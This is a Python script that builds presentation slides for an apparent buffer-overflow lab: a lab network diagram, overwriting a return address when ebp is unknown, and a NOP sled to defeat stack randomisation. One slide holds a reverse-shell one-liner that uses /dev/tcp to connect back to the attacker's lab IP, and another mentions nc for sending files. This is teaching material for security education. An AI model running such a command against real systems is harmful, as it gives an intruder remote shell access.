


from lxml import etree
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_CONNECTOR, MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, PP_ALIGN
from pptx.oxml.ns import qn
from pptx.util import Cm, Pt

RECT = MSO_SHAPE.RECTANGLE
LINE = MSO_CONNECTOR.STRAIGHT
MID = MSO_ANCHOR.MIDDLE
TOP = MSO_ANCHOR.TOP
LEFT = PP_ALIGN.LEFT
MIDDLE = PP_ALIGN.CENTER


class Theme:
    font = "Calibri"
    black = RGBColor.from_string("000000")
    white = RGBColor.from_string("FFFFFF")
    red = RGBColor.from_string("FF0000")
    blue = RGBColor.from_string("5B9BD5")
    pale = RGBColor.from_string("D2DEEF")
    faint = RGBColor.from_string("EAEFF7")
    sky = RGBColor.from_string("00B0F0")
    title, label = Pt(44), Pt(18)
    thin, link, thick = Pt(1), Pt(1.5), Pt(3)
    # Bullet levels: type size, space before, indent in cm
    levels = [(Pt(28), Pt(10), 0.64), (Pt(24), Pt(5), 1.91)]
    hang = Cm(0.64)
    # Table rows: fill, ink, bold
    rows = {
        "head": (blue, white, True),
        "body": (pale, black, False),
        "mark": (sky, white, True),
        "code": (pale, red, False),
        "foot": (faint, red, False),
    }


def put(obj, **vals):
    for name, val in vals.items():
        setattr(obj, name, val)


def box_of(*lens):
    return [Cm(num) for num in lens]


class Deck:
    def __init__(self):
        self.prs = Presentation()
        put(self.prs, slide_width=Cm(33.87), slide_height=Cm(19.05))
        self.slide = None

    def page(self, title, points):
        self.slide = self.prs.slides.add_slide(self.prs.slide_layouts[6])
        para = self.text(title, 2.33, 1.01, 29.21, 3.68, Theme.title, MID)
        para.line_spacing = 0.9
        self.list(points)

    def ink(self, font, size, color=Theme.black, bold=False):
        put(font, name=Theme.font, size=size, bold=bold)
        font.color.rgb = color

    def text(self, words, x, y, w, h, size=Theme.label, anchor=TOP):
        frame = self.slide.shapes.add_textbox(*box_of(x, y, w, h)).text_frame
        put(frame, word_wrap=True, vertical_anchor=anchor)
        return self.label(frame, words, size)

    def label(self, frame, words, size, color=Theme.black, bold=False,
              align=LEFT):
        para = frame.paragraphs[0]
        para.alignment = align
        run = para.add_run()
        run.text = words
        self.ink(run.font, size, color, bold)
        return para

    def list(self, points):
        frame = self.slide.shapes.add_textbox(
            *box_of(2.33, 5.07, 29.21, 12.09)).text_frame
        frame.word_wrap = True
        for num, (level, words) in enumerate(points):
            size, gap, left = Theme.levels[level]
            para = frame.add_paragraph() if num else frame.paragraphs[0]
            para.level = level
            props = para._p.get_or_add_pPr()
            props.set("marL", str(Cm(left)))
            props.set("indent", str(-Theme.hang))
            etree.SubElement(props, qn("a:buFont"), typeface="Arial")
            etree.SubElement(props, qn("a:buChar"), char="•")
            para.line_spacing = 0.9
            if num:
                para.space_before = gap
            run = para.add_run()
            run.text = words
            self.ink(run.font, size)

    def box(self, x, y, w, h, words="", edge=True):
        shape = self.slide.shapes.add_shape(RECT, *box_of(x, y, w, h))
        shape.shadow.inherit = False
        shape.fill.solid()
        shape.fill.fore_color.rgb = Theme.white
        if edge:
            shape.line.color.rgb = Theme.black
            shape.line.width = Theme.thin
        else:
            shape.line.fill.background()
        if words:
            shape.text_frame.vertical_anchor = MID
            self.label(shape.text_frame, words, Theme.label, align=MIDDLE)

    def link(self, x, y, end):
        line = self.slide.shapes.add_connector(LINE, *box_of(x, y, end, y))
        line.line.color.rgb = Theme.black
        line.line.width = Theme.link
        etree.SubElement(line._element.spPr, qn("a:effectLst"))

    def edge(self, cell, row):
        props = cell._tc.get_or_add_tcPr()
        # The rule under the head row is shared by rows 0 and 1
        heavy = {0: "B", 1: "T"}.get(row)
        for side in "LRTB":
            width = Theme.thick if side == heavy else Theme.thin
            line = etree.SubElement(props, qn("a:ln" + side), w=str(width))
            fill = etree.SubElement(line, qn("a:solidFill"))
            etree.SubElement(fill, qn("a:srgbClr"), val=str(Theme.white))

    def table(self, x, y, cols, rows):
        high = sum(row[0] for row in rows)
        grid = self.slide.shapes.add_table(
            len(rows), len(cols), *box_of(x, y, sum(cols), high)).table
        put(grid, first_row=False, horz_banding=False)
        for col, width in zip(grid.columns, cols):
            col.width = Cm(width)
        for num, (height, kind, words) in enumerate(rows):
            grid.rows[num].height = Cm(height)
            fill, color, bold = Theme.rows[kind]
            for col in range(len(cols)):
                cell = grid.cell(num, col)
                self.edge(cell, num)
                cell.fill.solid()
                cell.fill.fore_color.rgb = fill
                if col in words:
                    self.label(cell.text_frame, words[col], Theme.label,
                               color, bold)
        return grid


def main():
    deck = Deck()

    # Network structure
    deck.page("Task 2: Network structure illustration", [
        (0, "Tools:"),
        (1, "nc: send file to network"),
        (0, "Goal:"),
        (1, "Let the victim start reverse shell"),
        (1, "/bin/bash -i > /dev/tcp/10.0.2.6/9090 0<&1 2>&1"),
    ])
    deck.box(18.85, 12.67, 7.92, 2.98)
    deck.box(11.23, 12.75, 4.98, 2.9)
    deck.box(23.16, 14.12, 3.48, 1.45, "Docker", edge=False)
    deck.box(20.12, 13.44, 3.48, 1.45, "Server.c")
    deck.box(13.08, 13.44, 3.12, 1.45, "Attacker", edge=False)
    deck.link(16.18, 14.17, 20.12)
    deck.text("10.0.2.6:9090", 11.61, 15.82, 4.19, 1.02)
    deck.text("10.0.2.5:9090", 20.32, 15.82, 4.45, 1.02)

    # Unknown ebp
    deck.page("Task 3 Unknown ebp", [
        (0, "Launch the attack without the help of ebp"),
        (0, "Put the address of buffer into everywhere after shell code."),
    ])
    entry = dict.fromkeys(range(1, 5), "shell code entry addr")
    deck.table(5.56, 8.66, [3.48, 3.65, 3.65, 4, 4], [
        (2.55, "head", {0: "buffer in bof()", 2: "ebp=?",
                        3: "RET address(ebp+4)"}),
        (1.81, "body", {0: "shell code", **entry}),
        (1.02, "mark", {0: "start=0"}),
    ])

    # Randomness
    deck.page("Task 3: Counteract randomness", [
        (0, "Randomization:"),
        (1, "Stack address is randomized, so we do not know the address of "
            "buffer in bof."),
        (0, "Solution:"),
        (1, "1. use the address we see, and hope the stack address will be "
            "re-used."),
        (1, "2. put a lot of NOP before shell code. (Fengshui)"),
    ])
    cols = [2.01, 1.8, 2.06, 1.07, 3.61, 2.11, 1.5, 2.11, 5.23, 1.37, 2.46]
    grid = deck.table(3.45, 11.91, cols, [
        (1.79, "head", {0: "buffer in bof()", 7: "EBP", 8: "RET address"}),
        (1.81, "code", {0: "NOP", 1: "NOP", 2: "NOP", 3: "…",
                        4: "shell code", 8: "a known addr"}),
        (1.02, "foot", {0: "start", 8: "offset"}),
    ])
    grid.cell(0, 0).merge(grid.cell(0, 4))
    put(grid.cell(1, 0), margin_left=Cm(0.53), margin_right=Cm(0.1))
    shell = grid.cell(1, 4).text_frame.paragraphs[0].runs[0]
    shell.font.color.rgb = Theme.black

    deck.prs.save("out.pptx")


if __name__ == "__main__":
    main()
